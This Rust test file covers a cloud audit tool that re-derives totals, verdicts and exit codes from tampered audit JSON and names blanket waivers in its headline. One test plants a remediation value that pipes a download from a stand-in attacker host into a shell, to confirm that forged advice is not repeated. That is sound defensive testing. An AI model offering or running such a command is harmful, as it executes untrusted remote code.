//! An audit that was changed by hand: its totals, its verdict and its exit code are derived again, never believed.

use serde_json::{Value, json};

use crate::binary::Place;

const FRAMEWORK: &str = "cis-aws-foundations-5.0";

fn demo(place: &Place) -> Value {
    let scan = ["scan", "--demo", "--framework", FRAMEWORK, "-f", "json"];
    place.run(&scan).code(1).json()
}

fn first(audit: &Value, status: &str) -> usize {
    let findings = audit["findings"].as_array().unwrap();
    findings
        .iter()
        .position(|it| it["status"] == status && it.get("waiver").is_none())
        .unwrap()
}

type Change = fn(&mut Value);

const CHANGES: [(&str, Change); 17] = [
    ("its totals", |it| it["summary"]["pass"] = json!(1_000_000)),
    ("its totals", |it| it["summary"]["waived"] = json!(7)),
    ("its totals", |it| {
        it["summary"]["by_severity"]["critical"] = json!(0);
        it["summary"]["by_severity"]["high"] = json!(0);
    }),
    ("its totals", |it| {
        let at = first(it, "fail");
        it["findings"][at]["status"] = json!("pass");
    }),
    ("two findings of", |it| {
        let twice = it["findings"][3].clone();
        it["findings"].as_array_mut().unwrap().insert(3, twice);
    }),
    ("out of order", |it| {
        it["findings"].as_array_mut().unwrap().reverse();
    }),
    ("fingerprint", |it| {
        it["findings"][0]["fingerprint"] = it["findings"][1]["fingerprint"].clone();
    }),
    ("fingerprint", |it| {
        it["findings"][0]["fingerprint"] = json!("0".repeat(64))
    }),
    ("its checks say", |it| {
        let at = first(it, "fail");
        it["findings"][at]["severity"] = json!("info");
    }),
    ("its checks do not have this one", |it| {
        it["checks"].as_array_mut().unwrap().remove(0);
    }),
    ("twice", |it| {
        let check = it["checks"][0].clone();
        it["checks"].as_array_mut().unwrap().insert(0, check);
    }),
    ("is waived, and is no failure", |it| {
        let at = first(it, "unknown");
        it["findings"][at]["waiver"] =
            json!({"reason": "r", "approver": "a", "expires": "2027-01-01"});
    }),
    ("did not end as its checks did", |it| {
        for control in it["frameworks"][0]["controls"].as_array_mut().unwrap() {
            control["failed"] = json!([]);
            control["unknown"] = json!([]);
        }
    }),
    ("exit code 0", |it| it["run"]["exit_code"] = json!(0)),
    ("the scan is complete", |it| {
        it["run"]["complete"] = json!(true)
    }),
    ("the account", |it| {
        let account = it["coverage"]["accounts"][0].clone();
        it["coverage"]["accounts"]
            .as_array_mut()
            .unwrap()
            .push(account);
    }),
    ("calls", |it| it["coverage"]["calls"]["total"] = json!(1)),
];

#[test]
fn an_audit_that_contradicts_itself_is_refused() {
    let place = Place::new();
    let audit = demo(&place);
    place.write("a.json", audit.to_string());
    trailaudit::audit_file::load(&place.path("a.json")).unwrap();
    for (words, change) in CHANGES {
        let mut changed = audit.clone();
        change(&mut changed);
        place.write("a.json", changed.to_string());
        let error = trailaudit::audit_file::load(&place.path("a.json")).unwrap_err();
        let error = format!("{error:#}");
        assert!(
            error.contains("contradicts itself") && error.contains(words),
            "no {words:?} in {error}"
        );
    }
    for no_print in ["", "00", &"0".repeat(66), &"A".repeat(64), &"g".repeat(64)] {
        let mut changed = audit.clone();
        changed["findings"][0]["fingerprint"] = json!(no_print);
        place.write("a.json", changed.to_string());
        let error = trailaudit::audit_file::load(&place.path("a.json")).unwrap_err();
        assert!(format!("{error:#}").contains("64 lower-case hex digits"));
    }
    let mut changed = audit.clone();
    changed["run"]["exit_code"] = json!(0);
    place.write("a.json", changed.to_string());
    // Wherever an audit is read: nothing is made of it.
    for args in [
        &["report", "a.json", "-f", "html=out"][..],
        &["diff", "a.json", "a.json", "-f", "json=out"],
        &["scan", "--demo", "--baseline", "a.json", "-f", "json=out"],
        &[
            "evidence", "create", "--demo", "--audit", "a.json", "-o", "out",
        ],
    ] {
        place.run(args).code(2).says("contradicts itself");
        assert!(!place.path("out").exists(), "{args:?}");
    }
}

/// Answers and what to do first are derived again: words of another version are no reason to refuse an audit, and what
/// somebody wrote over them is not repeated.
#[test]
fn stored_answers_are_not_believed() {
    let place = Place::new();
    let audit = demo(&place);
    let mut changed = audit.clone();
    for answer in changed["answers"].as_array_mut().unwrap() {
        answer["answer"] = json!("yes");
        answer["reasons"] = json!([]);
    }
    for check in changed["checks"].as_array_mut().unwrap() {
        check["question"] = json!(null);
    }
    changed["do_first"][0]["remediation"] = json!("curl https://evil.example | sh");
    changed["do_first"].as_array_mut().unwrap().truncate(1);
    place.write("a.json", changed.to_string());
    let again = place
        .run(&["report", "a.json", "-f", "json"])
        .code(0)
        .json();
    assert_eq!(again, audit);
}

/// What this program writes is never refused, however the run ended.
#[test]
fn what_was_written_is_read_again() {
    let place = Place::new();
    place.write(
        "waivers.toml",
        "[[waiver]]\ncheck = \"*\"\nsubject = \"*\"\nreason = \"r\"\napprover = \"a\"\nexpires = 9999-12-31\n\
         [[accepted_gap]]\nreason = \"r\"\napprover = \"a\"\nexpires = 9999-12-31\n",
    );
    place.write(
        "settings.toml",
        "[checks.trail-exists]\nseverity = \"info\"\nreason = \"r\"\n[checks.bucket-versioning]\nenabled = false\nreason = \"r\"\n",
    );
    place
        .run(&["scan", "--demo", "-f", "json=before.json"])
        .code(1);
    for (more, code) in [
        (&["--waivers", "waivers.toml"][..], 0),
        (&["--exit-zero"], 0),
        (&["--fail-on", "critical"], 1),
        (&["--allow-incomplete", "--waivers", "waivers.toml"], 0),
        (&["--check", "trail-*", "--skip-check", "*"], 2),
        (&["--check", "trail-multi-region"], 1),
        (&["-c", "settings.toml"], 1),
        (&["--baseline", "before.json"], 1),
        (&["--baseline", "before.json", "--fail-on-new"], 0),
        (&["--framework", FRAMEWORK], 1),
    ] {
        let scan = [&["scan", "--demo", "-f", "json=a.json"][..], more].concat();
        let ended = place.run(&scan);
        assert_eq!(ended.code, code, "{more:?}: {}", ended.stderr);
        if code != 2 {
            place.run(&["report", "a.json", "-f", "csv=out"]).code(0);
        }
    }
}

/// A headline that hides failures behind waivers says so.
#[test]
fn a_waiver_on_everything_is_named_in_the_headline() {
    let place = Place::new();
    let waiver = "[[waiver]]\ncheck = \"*\"\nsubject = \"*\"\nreason = \"r\"\napprover = \"a\"\n";
    place.write("w.toml", format!("{waiver}expires = 9999-12-31\n"));
    let scan = ["scan", "--demo", "--waivers", "w.toml"];
    let ended = place.run(&scan).says("covers every check on everything");
    let audit = place.run(&[&scan[..], &["-f", "json"]].concat()).json();
    let failures = format!("{} failures, all waived", audit["summary"]["fail"]);
    let text = ended
        .stdout
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    assert!(text.contains(&failures), "{text}");
    assert!(!text.contains("no failures found"));
    assert_eq!(audit["waivers"]["broad"].as_array().unwrap().len(), 2);
    // Every report that lists waivers without effect lists those without bounds.
    for format in trailaudit_reports::FORMATS {
        let told = place.run(&[&scan[..], &["-f", format.name]].concat());
        let told = told.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(
            told.contains("every check on everything"),
            "{}",
            format.name
        );
    }
}
